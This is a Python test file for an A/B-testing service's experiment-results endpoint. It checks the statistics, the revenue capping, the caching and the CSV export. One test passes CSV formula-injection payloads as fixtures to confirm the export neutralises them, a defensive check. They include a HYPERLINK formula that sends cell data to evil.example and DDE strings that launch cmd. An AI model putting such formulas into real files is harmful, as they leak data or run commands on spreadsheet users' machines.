"""GET /v1/experiments/{key}/results on stored data, checked against independent computations."""

from __future__ import annotations

import csv
import io
import math
import time
from typing import Any

import pytest
import redis
from statsmodels.stats.proportion import proportions_ztest
from statsmodels.stats.weightstats import ttest_ind

from server.app import create_app
from server.context import services_of
from server.demo import ensure_demo_experiment, generate_traffic
from server.services.results import capped_from_differences
from server.storage import keys
from tests.helpers import EDITOR, INGEST_TOKEN, VIEWER, app_settings

# every test here runs against one Redis and against the local Redis Cluster
pytestmark = pytest.mark.both_redis

EXPERIMENT: dict[str, Any] = {
    "key": "shipping-note",
    "name": "Free shipping note",
    "variants": [{"key": "control"}, {"key": "note"}],
    "goals": [
        {"key": "purchase", "primary": True},
        {"key": "margin", "kind": "margin", "event": "purchase"},
    ],
    "segments": ["source"],
    "analysis": "fixed",
}
COUNTS = keys.counts("shipping-note", 1)


def start(client: Any, **changes: Any) -> None:
    body = {**EXPERIMENT, **changes}
    assert client.post("/v1/experiments", json=body, headers=EDITOR).status_code == 201
    assert client.post(f"/v1/experiments/{body['key']}/start", headers=EDITOR).status_code == 200


def test_results_match_independent_implementations(client: Any) -> None:
    start(client)
    margins: dict[str, list[float]] = {"control": [], "note": []}
    number = 0
    while min(len(v) for v in margins.values()) < 60:
        visitor = f"v-{number}"
        answer = client.post(
            "/v1/assign", json={"visitor": visitor, "attributes": {"source": "facebook"}}
        ).json["assignments"]["shipping-note"]
        variant = answer["variant"]
        margin = 0.0
        if number % 3 == 0:
            revenue = 20 + number % 17 + (5 if variant == "note" else 0)
            client.post(
                "/v1/events",
                json={"events": [{"type": "order", "visitor": visitor, "order_id": f"o-{number}",
                                  "revenue": f"{revenue}.00", "cost_of_goods": "10.00"}]},
                headers={"X-Splitwerk-Ingest-Key": INGEST_TOKEN},
            )  # fmt: skip
            margin = revenue - 10.0
        margins[variant].append(margin)
        number += 1
    body = client.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    purchase, margin_goal = body["goals"]
    control, note = margins["control"], margins["note"]
    converted = [sum(1 for m in control if m), sum(1 for m in note if m)]
    visitors = [len(control), len(note)]
    assert [v["visitors"] for v in body["variants"]] == visitors
    assert [t["converted"] for t in purchase["totals"]] == converted
    _, p_value = proportions_ztest(converted[::-1], visitors[::-1])
    assert purchase["result"]["variants"][1]["p_value"] == pytest.approx(p_value, abs=1e-6)
    assert margin_goal["result"]["variants"][0]["estimate"] == pytest.approx(
        sum(control) / len(control), abs=1e-9
    )
    _, welch_p, _ = ttest_ind(note, control, usevar="unequal")
    assert margin_goal["result"]["variants"][1]["p_value"] == pytest.approx(welch_p, abs=1e-6)
    assert margin_goal["result"]["variants"][1]["uplift"] == pytest.approx(
        sum(note) / len(note) - sum(control) / len(control), abs=1e-9
    )
    # 60 visitors per variant are below the minimum-evidence rule of 100
    assert margin_goal["summary"] == (
        "not enough data yet for margin: fewer than 100 visitors in the control or the variant"
    )
    assert margin_goal["result"]["variants"][1]["status"] == "not_enough_data"
    assert margin_goal["result"]["minimum_visitors"] == 100
    assert body["summary"] == purchase["summary"]


def test_empty_experiment_has_defined_results(client: Any) -> None:
    start(client)
    response = client.get("/v1/experiments/shipping-note/results", headers=VIEWER)
    assert response.status_code == 200
    body = response.json
    assert [v["visitors"] for v in body["variants"]] == [0, 0]
    variant = body["goals"][0]["result"]["variants"][1]
    assert variant["p_value"] is None
    assert variant["is_significant"] is False
    assert body["daily"][0]["points"] == []
    assert body["goals"][0]["summary"].startswith("not enough data")
    assert body["decision"]["verdict"] == "keep-running"
    assert body["decision"]["challenger"] is None and body["decision"]["per_month"] is None


def test_sample_ratio_mismatch_is_flagged(client: Any, redis_client: redis.Redis) -> None:
    start(client)
    redis_client.hset(COUNTS, mapping={"e:0": 1000, "e:1": 800})
    body = client.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    assert body["sample_ratio"]["mismatch"] is True
    assert body["sample_ratio"]["p_value"] < 0.001


def test_daily_series_is_cumulative(client: Any, redis_client: redis.Redis) -> None:
    start(client)
    redis_client.hset(
        COUNTS,
        mapping={
            "e:0": 30, "e:1": 30, "e:0:d:2026-11-20": 10, "e:1:d:2026-11-20": 10,
            "e:0:d:2026-11-21": 20, "e:1:d:2026-11-21": 20, "c:0:purchase": 3,
            "c:0:purchase:d:2026-11-20": 1, "c:0:purchase:d:2026-11-21": 2,
        },
    )  # fmt: skip
    body = client.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    points = body["daily"][0]["points"]
    assert [p["day"] for p in points] == ["2026-11-20", "2026-11-21"]
    assert [p["variants"][0]["visitors"] for p in points] == [10, 30]
    assert [p["variants"][0]["converted"] for p in points] == [1, 3]
    assert points[1]["variants"][0]["estimate"] == pytest.approx(0.1)
    band = points[1]["variants"][0]["interval"]
    assert band["upper"] == pytest.approx(0.1 + 1.959964 * math.sqrt(0.1 * 0.9 / 30), abs=1e-5)
    assert band["lower"] == 0.0  # 0.1 - 0.107: a chart never draws a rate below 0


def test_a_value_dated_before_the_first_enrolment_does_not_break_the_results(
    client: Any, redis_client: redis.Redis
) -> None:
    start(client)
    redis_client.hset(
        COUNTS,
        mapping={
            "e:0": 10, "e:1": 10, "e:0:d:2026-11-21": 10, "e:1:d:2026-11-21": 10,
            "c:0:margin": 1, "s:0:margin": 1500, "q:0:margin": 2250000,
            "c:0:margin:d:2026-11-20": 1, "s:0:margin:d:2026-11-20": 1500,
            "q:0:margin:d:2026-11-20": 2250000,
        },
    )  # fmt: skip
    response = client.get("/v1/experiments/shipping-note/results", headers=VIEWER)
    assert response.status_code == 200  # ValueError, a 500, before
    margin = next(series for series in response.json["daily"] if series["goal"] == "margin")
    assert [point["day"] for point in margin["points"]] == ["2026-11-20", "2026-11-21"]
    first = margin["points"][0]["variants"][0]
    assert first["visitors"] == 0 and first["estimate"] is None and first["interval"] is None


def test_results_json_carries_the_evidence_fields(client: Any, redis_client: redis.Redis) -> None:
    start(client)
    redis_client.hset(COUNTS, mapping={"e:0": 300, "e:1": 1, "c:0:purchase": 34,
                                       "c:1:purchase": 1})  # fmt: skip
    body = client.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    control, variant = body["goals"][0]["result"]["variants"]
    assert control["status"] == "control"
    assert variant["status"] == "not_enough_data" and variant["is_significant"] is False
    assert variant["reason"] == "fewer than 100 visitors in the control or the variant"
    assert variant["p_value"] == pytest.approx(0.116, abs=1e-3)  # Fisher's exact test
    assert variant["chance_to_beat_control"] is None
    assert body["summary"].startswith("not enough data yet for purchase")
    assert body["goals"][0]["traffic_days"] == 1


def test_small_segments_are_shown_but_not_judged(client: Any, redis_client: redis.Redis) -> None:
    start(client)
    redis_client.hset(
        COUNTS,
        mapping={
            "e:0": 2010, "e:1": 2010, "e:0:source=facebook": 2000, "e:1:source=facebook": 2000,
            "e:0:source=youtube": 10, "e:1:source=youtube": 10, "c:0:purchase": 100,
            "c:1:purchase": 160, "c:0:purchase:source=facebook": 99,
            "c:1:purchase:source=facebook": 155, "c:0:purchase:source=youtube": 1,
            "c:1:purchase:source=youtube": 5,
        },
    )  # fmt: skip
    body = client.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    report = next(s for s in body["segments"] if s["goal"] == "purchase")
    judged = {segment["value"]: segment["judged"] for segment in report["segments"]}
    assert judged == {"facebook": True, "youtube": False}
    youtube = next(s for s in report["segments"] if s["value"] == "youtube")
    assert youtube["result"]["variants"][1]["is_significant"] is False


def test_csv_export_has_a_row_per_goal_segment_and_variant(client: Any, redis_client: Any) -> None:
    start(client)
    redis_client.hset(COUNTS, mapping={"e:0": 5, "e:1": 5, "e:0:source=facebook": 5,
                                       "e:1:source=facebook": 5})  # fmt: skip
    response = client.get("/v1/experiments/shipping-note/results?format=csv", headers=VIEWER)
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 2 * 2 + 2 * 2  # (all + facebook) x 2 goals x 2 variants
    assert {row["goal"] for row in rows} == {"purchase", "margin"}
    assert rows[0]["variant"] == "control"
    assert rows[0]["status"] == "control"
    assert rows[1]["status"] == "not_enough_data" and rows[1]["reason"].startswith("fewer than")


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-2.85",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_neutralises_formulas_in_text_cells(client: Any, value: str) -> None:
    start(client)
    for visitor in ("a", "b", "c", "d"):  # a browser sends the segment value
        answer = client.post(
            "/v1/assign", json={"visitor": visitor, "attributes": {"source": value}}
        )
        assert answer.status_code == 200
    response = client.get("/v1/experiments/shipping-note/results?format=csv", headers=VIEWER)
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    cells = [row["segment_value"] for row in rows if row["segment"] == "source"]
    stored = value.lstrip("\t\r")  # segment values lose control characters when counted
    assert cells and set(cells) == {"'" + stored}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_of_owasp_is_quoted(start: str) -> None:
    from server.api.results import spreadsheet_cell

    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_cell(f"a{start}1") == f"a{start}1"


def test_csv_export_keeps_computed_negative_numbers_numeric() -> None:
    from server.api.results import spreadsheet_cell

    assert spreadsheet_cell(-2.85) == -2.85
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell(None) is None
    assert spreadsheet_cell("facebook") == "facebook"


def test_results_need_a_viewer_token_and_a_known_experiment(client: Any) -> None:
    assert client.get("/v1/experiments/nope/results").status_code == 401
    assert client.get("/v1/experiments/nope/results", headers=VIEWER).status_code == 404
    start(client)
    bad = client.get("/v1/experiments/shipping-note/results?format=xml", headers=VIEWER)
    assert bad.status_code == 422


def test_results_are_cached_for_the_configured_time(
    redis_url: str, redis_client: redis.Redis
) -> None:
    cached = create_app(app_settings(redis_url, RESULTS_CACHE_TTL=60)).test_client()
    start(cached)
    first = cached.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    redis_client.hset(COUNTS, mapping={"e:0": 7})
    second = cached.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    assert second == first
    fresh = create_app(app_settings(redis_url, RESULTS_CACHE_TTL=0)).test_client()
    third = fresh.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    assert third["variants"][0]["visitors"] == 7


def test_demo_traffic_gives_results_with_segments(redis_url: str, redis_client: Any) -> None:
    app = create_app(app_settings(redis_url))
    now = time.time()
    ensure_demo_experiment(services_of(app).store, now - 20 * 86400)
    assert generate_traffic(services_of(app), 1500, now) > 0
    body = app.test_client().get("/v1/experiments/checkout-button/results", headers=EDITOR).json
    assert sum(v["visitors"] for v in body["variants"]) > 1000
    assert len(body["daily"][0]["points"]) >= 14
    sources = {s["value"] for r in body["segments"] if r["attribute"] == "source"
               for s in r["segments"]}  # fmt: skip
    assert {"facebook", "instagram", "newsletter"} <= sources
    # the decision card's verdict, in money: the demo's green note earns less margin
    decision = body["decision"]
    assert decision["goal"] == "margin" and decision["money"] is True
    assert decision["verdict"] in {"ship", "stop", "keep-running"}
    assert decision["challenger"] == "green-note"
    assert decision["per_thousand"] < 0
    interval = decision["per_thousand_interval"]
    assert interval["lower"] <= decision["per_thousand"] <= interval["upper"]
    assert decision["daily_visitors"] > 0


def test_one_huge_order_is_capped_and_decides_nothing(
    client: Any, redis_client: redis.Redis
) -> None:
    goals = [{"key": "purchase", "primary": True},
             {"key": "revenue", "kind": "revenue", "event": "purchase"}]  # fmt: skip
    start(client, goals=goals)
    answer = client.post("/v1/assign", json={"visitor": "whale"}).json
    whale = [v["key"] for v in EXPERIMENT["variants"]].index(
        answer["assignments"]["shipping-note"]["variant"]
    )
    # 3000 visitors per variant, 300 of them bought for 40.00 (in cents; capped = uncapped, so
    # the capped sums differ by nothing: no ds/dq/dqh)
    base: dict[str, int] = {}
    for i in (0, 1):
        visitors = 3000 + (1 if i == whale else 0)
        base |= {f"e:{i}": visitors, f"c:{i}:purchase": 300, f"c:{i}:revenue": 300}
        base |= {f"s:{i}:revenue": 300 * 4000, f"q:{i}:revenue": 300 * 4000**2}
    redis_client.hset(COUNTS, mapping=base)  # type: ignore[arg-type]
    order = {"type": "order", "visitor": "whale", "order_id": "o-whale", "revenue": "1000000.00"}
    ingest = {"X-Splitwerk-Ingest-Key": INGEST_TOKEN}
    assert client.post("/v1/events", json={"events": [order]}, headers=ingest).status_code == 200
    stored = {k.decode(): int(v) for k, v in redis_client.hgetall(COUNTS).items()}
    counts = capped_from_differences(stored)
    # the totals keep the whole order, the statistics count 1,000.00 of it (the default cap):
    # stored as the difference of the capped sum from the uncapped one
    assert counts[f"s:{whale}:revenue"] == 300 * 4000 + 100_000_000
    assert stored[f"ds:{whale}:revenue"] == 100_000 - 100_000_000
    assert counts[f"cs:{whale}:revenue"] == 300 * 4000 + 100_000
    capped_squares = counts.get(f"cqh:{whale}:revenue", 0) * 10**8 + counts[f"cq:{whale}:revenue"]
    assert capped_squares == 300 * 4000**2 + 100_000**2
    body = client.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    revenue = body["goals"][1]
    assert revenue["cap"] == 1000.0 and body["goals"][0]["cap"] is None
    assert revenue["totals"][whale]["value_sum"] == pytest.approx(12000 + 1_000_000)
    result = revenue["result"]["variants"]
    assert result[whale]["estimate"] == pytest.approx((12000 + 1000) / 3001)
    challenger = result[1]
    # uncapped this read "chance to beat control 84%" with p = 0.32
    assert challenger["is_significant"] is False
    assert 0.2 < challenger["chance_to_beat_control"] < 0.8
    assert revenue["summary"].startswith("no clear difference yet for revenue")
    # a refund lowers the capped sums only as far as the total falls below the cap
    refund = {"type": "refund", "id": "r-1", "order_id": "o-whale", "amount": "999500.00"}
    assert client.post("/v1/events", json={"events": [refund]}, headers=ingest).status_code == 200
    stored = {k.decode(): int(v) for k, v in redis_client.hgetall(COUNTS).items()}
    counts = capped_from_differences(stored)
    assert counts[f"s:{whale}:revenue"] == 300 * 4000 + 50_000
    assert stored[f"ds:{whale}:revenue"] == 0  # under the cap again: no difference
    assert counts[f"cs:{whale}:revenue"] == 300 * 4000 + 50_000
    capped_squares = counts.get(f"cqh:{whale}:revenue", 0) * 10**8 + counts[f"cq:{whale}:revenue"]
    assert capped_squares == 300 * 4000**2 + 50_000**2


def test_the_value_cap_is_configurable(redis_url: str, redis_client: redis.Redis) -> None:
    app = create_app(app_settings(redis_url, VALUE_CAP=250.0))
    capped = app.test_client()
    start(capped, goals=[{"key": "purchase", "primary": True},
                         {"key": "revenue", "kind": "revenue", "event": "purchase"}])  # fmt: skip
    variant = capped.post("/v1/assign", json={"visitor": "v"}).json["assignments"]
    index = ["control", "note"].index(variant["shipping-note"]["variant"])
    order = {"type": "order", "visitor": "v", "order_id": "o-1", "revenue": "400.00"}
    ingest = {"X-Splitwerk-Ingest-Key": INGEST_TOKEN}
    assert capped.post("/v1/events", json={"events": [order]}, headers=ingest).status_code == 200
    assert int(redis_client.hget(COUNTS, f"ds:{index}:revenue") or 0) == 25_000 - 40_000
    assert int(redis_client.hget(COUNTS, f"s:{index}:revenue") or 0) == 40_000
    body = capped.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    assert body["goals"][1]["cap"] == 250.0


def test_results_json_names_the_test_and_carries_post_stratified_uplifts(
    client: Any, redis_client: redis.Redis
) -> None:
    start(client, analysis="sequential")
    mapping: dict[str, int] = {}
    for day in ("2026-11-28", "2026-11-29"):
        mapping |= {f"e:0:d:{day}": 1500, f"e:1:d:{day}": 1500}
    mapping |= {"e:0": 3000, "e:1": 3000, "c:0:purchase": 240, "c:1:purchase": 270}
    mapping |= {"e:0:source=mail": 1000, "e:1:source=mail": 1000}
    mapping |= {"c:0:purchase:source=mail": 200, "c:1:purchase:source=mail": 220}
    redis_client.hset(COUNTS, mapping=mapping)
    body = client.get("/v1/experiments/shipping-note/results", headers=VIEWER).json
    purchase = body["goals"][0]
    assert purchase["result"]["test"] == "group_sequential"
    assert 0.0 < purchase["result"]["information_fraction"] < 1.0
    assert purchase["result"]["boundary"] > 1.96  # early looks ask for more
    (stratified,) = purchase["stratified"]
    assert stratified["attribute"] == "source" and stratified["strata"] == 2
    # pooled shares: mail 2000 of 6000 visitors, the rest 4000
    uplift = 2000 / 6000 * (0.22 - 0.20) + 4000 / 6000 * (50 / 2000 - 40 / 2000)
    assert stratified["variants"][0]["uplift"] == pytest.approx(uplift)
    assert stratified["variants"][0]["variance_ratio"] < 1.0
